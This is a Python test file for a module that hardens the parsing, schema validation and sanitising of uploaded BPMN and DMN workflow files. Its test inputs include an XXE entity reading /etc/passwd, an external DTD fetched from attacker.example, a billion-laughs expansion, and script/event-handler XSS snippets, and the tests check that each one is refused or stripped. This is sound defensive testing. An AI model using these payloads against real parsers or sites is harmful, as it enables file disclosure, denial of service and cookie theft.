"""Hardened parsing and XSD validation of uploaded model files."""
from __future__ import annotations

import random
import time
from pathlib import Path

import pytest

from app.engine.errors import InvalidDefinition
from app.engine.xml_safety import (
    bpmn_schema_problems, dmn_schema_problems, parse_xml, strip_foreign_markup,
)

MINIMAL_BPMN = b"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
    id="defs" targetNamespace="http://example.com/bpmn">
  <bpmn:process id="p" isExecutable="true">
    <bpmn:startEvent id="start"/>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end"/>
    <bpmn:endEvent id="end"/>
  </bpmn:process>
</bpmn:definitions>
"""

MINIMAL_DMN13 = b"""<?xml version="1.0" encoding="UTF-8"?>
<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="defs" name="d"
    namespace="http://example.com/dmn">
  <decision id="discount" name="Discount">
    <decisionTable id="table">
      <input id="in1"><inputExpression id="ie1" typeRef="string"><text>tier</text></inputExpression></input>
      <output id="out1" name="discount" typeRef="number"/>
      <rule id="r1">
        <inputEntry id="e1"><text>"gold"</text></inputEntry>
        <outputEntry id="o1"><text>0.2</text></outputEntry>
      </rule>
    </decisionTable>
  </decision>
</definitions>
"""


def refused(content: bytes) -> InvalidDefinition:
    with pytest.raises(InvalidDefinition) as info:
        parse_xml(content, "upload.bpmn")
    return info.value


def everything_said(error: InvalidDefinition) -> str:
    return " ".join([str(error), repr(error.__cause__), repr(error.__context__)]
                    + [repr(p.to_dict()) for p in error.problems])


# -------------------------------------------------------------------------- parsing


def test_minimal_bpmn_parses():
    tree = parse_xml(MINIMAL_BPMN, "ok.bpmn")
    assert tree.getroot().get("id") == "defs"


def test_xxe_is_refused_without_reading_the_file():
    passwd_lines = [line for line in Path("/etc/passwd").read_text().splitlines() if line]
    error = refused(
        b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">&xxe;</bpmn:definitions>'
    )
    [problem] = error.problems
    assert problem.message_zh == "模型文件不允许包含 DTD 或实体声明"
    assert problem.message_en == "DTDs and entity declarations are not allowed"
    assert problem.file == "upload.bpmn"
    assert problem.line == 2
    said = everything_said(error)
    assert not any(line in said for line in passwd_lines)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_xxe_in_other_encodings_is_refused(encoding):
    document = (
        f'<?xml version="1.0" encoding="{encoding.upper()}"?>'
        '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><d>&xxe;</d>'
    ).encode(encoding)
    error = refused(document)
    assert error.problems[0].message_en == "DTDs and entity declarations are not allowed"


def test_external_parameter_entity_is_refused():
    error = refused(b'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><d/>')
    assert "DTD" in error.problems[0].message_en


def test_billion_laughs_is_refused_fast():
    entities = "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    document = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]><lolz>&lol9;</lolz>'
    started = time.perf_counter()
    error = refused(document.encode())
    assert time.perf_counter() - started < 0.5
    assert error.problems[0].message_zh == "模型文件不允许包含 DTD 或实体声明"


def test_doctype_text_inside_the_document_is_not_a_dtd():
    content = MINIMAL_BPMN.replace(
        b'<bpmn:endEvent id="end"/>',
        b'<bpmn:scriptTask id="s"><bpmn:script><![CDATA[html = "<!DOCTYPE html>"]]></bpmn:script></bpmn:scriptTask>'
        b'<bpmn:endEvent id="end"/>',
    )
    assert parse_xml(content, "ok.bpmn").getroot().get("id") == "defs"


def test_undeclared_entity_is_a_syntax_error():
    error = refused(b"<d>\n&xxe;</d>")
    assert error.problems[0].line == 2


def test_broken_xml_is_located_by_line():
    content = MINIMAL_BPMN.replace(b'<bpmn:endEvent id="end"/>', b'<bpmn:endEvent id="end">')
    [problem] = refused(content).problems
    assert problem.line == 8
    assert problem.message_zh.startswith("XML 格式错误：")
    assert problem.message_en.startswith("Malformed XML: ")
    assert "endEvent" in problem.message_en


@pytest.mark.parametrize("content", [b"", b"   \n\t", b"\x00", b"\x00\x00\x00\x00", b"\xef\xbb\xbf"])
def test_empty_or_null_content_is_refused(content):
    [problem] = refused(content).problems
    assert problem.message_zh and problem.message_en


def test_utf16_and_bom_documents_parse():
    assert parse_xml(MINIMAL_BPMN.decode().replace("UTF-8", "UTF-16").encode("utf-16"), "x.bpmn") is not None
    assert parse_xml(b"\xef\xbb\xbf" + MINIMAL_BPMN, "x.bpmn") is not None


def test_nul_inside_a_document_is_refused():
    assert refused(b"<d>\x00</d>").problems[0].line == 1


def test_random_bytes_only_ever_raise_invalid_definition():
    rng = random.Random(20240611)
    samples = [rng.randbytes(rng.randint(1, 400)) for _ in range(300)]
    samples += [MINIMAL_BPMN[: rng.randint(0, len(MINIMAL_BPMN))] for _ in range(100)]
    samples += [_flip_bytes(MINIMAL_BPMN, rng) for _ in range(200)]
    samples += [sample.decode("latin-1").encode("utf-16") for sample in samples[:50]]
    for sample in samples:
        try:
            tree = parse_xml(sample, "fuzz.bpmn")
        except InvalidDefinition as error:
            assert error.problems and all(p.file == "fuzz.bpmn" for p in error.problems)
        else:
            bpmn_schema_problems(tree, "fuzz.bpmn")


def _flip_bytes(content: bytes, rng: random.Random) -> bytes:
    mutated = bytearray(content)
    for _ in range(rng.randint(1, 5)):
        mutated[rng.randrange(len(mutated))] = rng.randrange(256)
    return bytes(mutated)


def test_deep_nesting_is_refused_not_crashed():
    error = refused(b"<a>" * 100_000 + b"</a>" * 100_000)
    assert error.problems[0].message_en


# ---------------------------------------------------------------------- XSD: BPMN


def test_minimal_bpmn_is_schema_valid():
    assert bpmn_schema_problems(parse_xml(MINIMAL_BPMN, "ok.bpmn"), "ok.bpmn") == []


def test_unknown_element_is_reported_with_line_and_id():
    content = MINIMAL_BPMN.replace(b'<bpmn:endEvent id="end"/>', b'<bpmn:fooTask id="foo"/>')
    problems = bpmn_schema_problems(parse_xml(content, "bad.bpmn"), "bad.bpmn")
    [problem] = problems
    assert problem.file == "bad.bpmn"
    assert problem.line == 7
    assert problem.element_id == "foo"
    assert problem.message_zh.startswith("不符合 BPMN 2.0 规范：")
    assert "bpmn:fooTask" in problem.message_en
    assert "{http" not in problem.message_en


def test_error_inside_an_element_without_id_names_the_enclosing_element():
    content = MINIMAL_BPMN.replace(
        b'<bpmn:endEvent id="end"/>',
        b'<bpmn:endEvent id="end">\n      <bpmn:bogus/>\n    </bpmn:endEvent>',
    )
    [problem] = bpmn_schema_problems(parse_xml(content, "bad.bpmn"), "bad.bpmn")
    assert (problem.line, problem.element_id) == (8, "end")


def test_missing_required_attribute_is_reported():
    content = MINIMAL_BPMN.replace(b' sourceRef="start"', b"")
    [problem] = bpmn_schema_problems(parse_xml(content, "bad.bpmn"), "bad.bpmn")
    assert problem.element_id == "f1"
    assert "sourceRef" in problem.message_en


def test_a_dmn_file_is_not_a_bpmn_file():
    problems = bpmn_schema_problems(parse_xml(MINIMAL_DMN13, "d.bpmn"), "d.bpmn")
    assert problems and problems[0].line == 3


def test_bpmn_js_correlation_expressions_are_accepted_and_left_as_uploaded():
    content = MINIMAL_BPMN.replace(b"</bpmn:definitions>", b"""
  <bpmn:message id="m" name="paid"/>
  <bpmn:correlationProperty id="cp" name="order">
    <bpmn:correlationPropertyRetrievalExpression messageRef="m">
      <bpmn:formalExpression>order_id</bpmn:formalExpression>
    </bpmn:correlationPropertyRetrievalExpression>
  </bpmn:correlationProperty>
</bpmn:definitions>""")
    tree = parse_xml(content, "c.bpmn")
    assert bpmn_schema_problems(tree, "c.bpmn") == []
    assert tree.xpath("//*[local-name()='formalExpression']")


# ----------------------------------------------------------------------- XSD: DMN


def test_minimal_dmn13_is_schema_valid():
    assert dmn_schema_problems(parse_xml(MINIMAL_DMN13, "d.dmn"), "d.dmn") == []


@pytest.mark.parametrize("namespace", [
    b"http://www.omg.org/spec/DMN/20151101/dmn.xsd",
    b"http://www.omg.org/spec/DMN/20180521/MODEL/",
])
def test_older_dmn_versions_use_their_own_schema(namespace):
    content = MINIMAL_DMN13.replace(b"https://www.omg.org/spec/DMN/20191111/MODEL/", namespace)
    assert dmn_schema_problems(parse_xml(content, "d.dmn"), "d.dmn") == []


def test_invalid_dmn_is_reported_with_line_and_id():
    content = MINIMAL_DMN13.replace(b'<output id="out1"', b'<output id="out1" bogus="1"')
    [problem] = dmn_schema_problems(parse_xml(content, "d.dmn"), "d.dmn")
    assert (problem.line, problem.element_id) == (7, "out1")
    assert problem.message_zh.startswith("不符合 DMN 规范：")


def test_unknown_dmn_namespace_is_reported():
    content = MINIMAL_DMN13.replace(
        b"https://www.omg.org/spec/DMN/20191111/MODEL/", b"https://www.omg.org/spec/DMN/20230324/MODEL/"
    )
    [problem] = dmn_schema_problems(parse_xml(content, "d.dmn"), "d.dmn")
    assert "DMN" in problem.message_zh
    assert (problem.line, problem.element_id) == (3, "defs")


# ------------------------------------------------------------- foreign markup stripped

CAMUNDA_COLOURED_BPMN = b"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
    xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI"
    xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI"
    xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
    xmlns:bioc="http://bpmn.io/schema/bpmn/biocolor/1.0"
    xmlns:color="http://www.omg.org/spec/BPMN/non-normative/color/1.0"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
    xmlns:h="http://www.w3.org/1999/xhtml" xmlns:svg="http://www.w3.org/2000/svg"
    id="defs" targetNamespace="http://example.com/bpmn">
  <bpmn:process id="p" isExecutable="true" camunda:candidateStarterGroups="department">
    <bpmn:startEvent id="start"/>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end">
      <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${ok}</bpmn:conditionExpression>
    </bpmn:sequenceFlow>
    <bpmn:endEvent id="end"/>
  </bpmn:process>
  <bpmndi:BPMNDiagram id="diagram">
    <bpmndi:BPMNPlane id="plane" bpmnElement="p">
      <bpmndi:BPMNShape id="start_di" bpmnElement="start" bioc:stroke="#1e88e5" color:background-color="#bbdefb">
        <dc:Bounds x="100" y="100" width="36" height="36"/>
      </bpmndi:BPMNShape>
    </bpmndi:BPMNPlane>
  </bpmndi:BPMNDiagram>
</bpmn:definitions>
"""


def stripped(content: bytes, name: str = "upload.bpmn") -> bytes:
    return strip_foreign_markup(parse_xml(content, name), content)


def with_start_event_extensions(extensions: str) -> bytes:
    return CAMUNDA_COLOURED_BPMN.replace(
        b'<bpmn:startEvent id="start"/>',
        f'<bpmn:startEvent id="start"><bpmn:extensionElements>{extensions}</bpmn:extensionElements>'
        '</bpmn:startEvent>'.encode(),
    )


def test_a_model_with_nothing_foreign_is_kept_byte_for_byte():
    assert stripped(CAMUNDA_COLOURED_BPMN) == CAMUNDA_COLOURED_BPMN
    assert stripped(MINIMAL_DMN13, "d.dmn") == MINIMAL_DMN13


def test_a_script_in_a_foreign_namespace_is_stripped_and_camunda_extensions_stay():
    content = with_start_event_extensions(
        '<h:script>alert(document.cookie)</h:script>'
        '<camunda:properties><camunda:property name="label_en" value="Start"/></camunda:properties>'
        '<svg:svg><svg:script>alert(1)</svg:script></svg:svg>'
    )
    result = stripped(content)
    assert b"script" not in result and b"alert" not in result
    tree = parse_xml(result, "upload.bpmn")
    [prop] = tree.getroot().iter("{http://camunda.org/schema/1.0/bpmn}property")
    assert (prop.get("name"), prop.get("value")) == ("label_en", "Start")
    assert bpmn_schema_problems(tree, "upload.bpmn") == []


def test_foreign_attributes_are_stripped_and_colours_and_xsi_types_stay():
    content = CAMUNDA_COLOURED_BPMN.replace(
        b'<bpmn:endEvent id="end"/>', b'<bpmn:endEvent id="end" h:onclick="alert(1)" name="done"/>')
    result = stripped(content)
    assert b"onclick" not in result
    for kept in (b'name="done"', b'bioc:stroke="#1e88e5"', b'color:background-color="#bbdefb"',
                 b'xsi:type="bpmn:tFormalExpression"', b'camunda:candidateStarterGroups="department"'):
        assert kept in result, kept


def test_text_around_a_stripped_element_is_kept():
    content = CAMUNDA_COLOURED_BPMN.replace(
        b'<bpmn:startEvent id="start"/>',
        b'<bpmn:startEvent id="start"><bpmn:documentation>before <h:b>bold</h:b> after'
        b'</bpmn:documentation></bpmn:startEvent>')
    [documentation] = parse_xml(stripped(content), "upload.bpmn").getroot().iter(
        "{http://www.omg.org/spec/BPMN/20100524/MODEL}documentation")
    assert documentation.text == "before  after" and len(documentation) == 0


def test_elements_in_no_namespace_and_processing_instructions_are_stripped():
    content = with_start_event_extensions("<script>alert(1)</script>").replace(
        b"?>\n", b'?>\n<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>\n', 1)
    result = stripped(content)
    assert b"script" not in result and b"xml-stylesheet" not in result
    assert bpmn_schema_problems(parse_xml(result, "upload.bpmn"), "upload.bpmn") == []


def test_a_decision_table_keeps_dmn_dmndi_and_camunda_and_loses_the_rest():
    content = MINIMAL_DMN13.replace(
        b'name="d"',
        b'name="d" xmlns:dmndi="https://www.omg.org/spec/DMN/20191111/DMNDI/" '
        b'xmlns:dc="http://www.omg.org/spec/DMN/20180521/DC/" '
        b'xmlns:camunda="http://camunda.org/schema/1.0/dmn" xmlns:h="http://www.w3.org/1999/xhtml"',
    ).replace(
        b'<decision id="discount" name="Discount">',
        b'<decision id="discount" name="Discount" camunda:versionTag="1" h:onload="x()">'
        b'<extensionElements><h:script>alert(1)</h:script></extensionElements>',
    ).replace(
        b"</definitions>",
        b'<dmndi:DMNDI><dmndi:DMNDiagram id="dd"><dmndi:DMNShape id="s" dmnElementRef="discount">'
        b'<dc:Bounds height="80" width="180" x="100" y="100"/></dmndi:DMNShape></dmndi:DMNDiagram>'
        b"</dmndi:DMNDI></definitions>",
    )
    result = stripped(content, "d.dmn")
    assert b"script" not in result and b"onload" not in result
    assert b'camunda:versionTag="1"' in result and b"<dc:Bounds" in result
    assert dmn_schema_problems(parse_xml(result, "d.dmn"), "d.dmn") == []
